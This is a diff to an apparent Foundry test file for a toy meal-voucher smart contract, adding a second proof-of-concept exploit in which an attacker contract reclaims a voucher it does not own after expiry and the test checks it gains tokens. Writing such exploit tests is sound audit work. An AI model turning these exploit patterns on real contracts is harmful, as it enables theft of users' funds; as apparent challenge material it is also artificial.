@@ -43,8 +43,9 @@ contract Proof {
         desk.buy(SOUP, 150e18);
         desk.buy(SOUP, 250e18);
         desk.buy(NOODLE, 300e18);
-        vm.stopPrank();
         mallory = new Attacker(desk, token);
+        desk.buy(address(mallory), 200e18);
+        vm.stopPrank();
         token.mint(address(mallory), 100e18);
     }
 
@@ -65,13 +66,13 @@ contract Proof {
         require(token.balanceOf(SOUP) == 400e18, "paid");
         vm.prank(FIRM);
         uint256 id = desk.buy(NOODLE, 50e18);
-        require(id == 3, "numbered");
+        require(id == 4, "numbered");
         vm.prank(NOODLE);
         require(desk.settle(one(2)) == 300e18, "one meal");
         vm.warp(1700000000 + 365 days);
         vm.prank(FIRM);
-        desk.reclaim(3);
-        require(token.balanceOf(FIRM) == 300e18 && token.balanceOf(address(desk)) == 0, "nothing is left");
+        desk.reclaim(4);
+        require(token.balanceOf(FIRM) == 100e18 && token.balanceOf(address(desk)) == 200e18, "one is left");
     }
 
     function test_RefusesSettling() public {
@@ -101,7 +102,7 @@ contract Proof {
         vm.expectRevert("not yet");
         desk.reclaim(1);
         vm.warp(1700000000 + 365 days);
-        vm.prank(SOUP);
+        vm.prank(NOODLE);
         vm.expectRevert("not yours");
         desk.reclaim(1);
         vm.startPrank(FIRM);
@@ -133,6 +134,16 @@ contract Proof {
         require(token.balanceOf(address(mallory)) >= 500e18, "nothing gained");
     }
 
+    function exploit2() public {
+        vm.warp(1700000000 + 365 days);
+        mallory.reclaim();
+    }
+
+    function test_Exploit2() public {
+        exploit2();
+        require(token.balanceOf(address(mallory)) >= 300e18, "nothing gained");
+    }
+
     function target() public view returns (address) {
         return address(desk);
     }
@@ -153,6 +164,10 @@ contract Attacker {
     constructor(MealVouchers _desk, Coin _token) public {
         desk = _desk;
         token = _token;
+    }
+
+    function reclaim() external {
+        desk.reclaim(3);
     }
 
     function run() external {
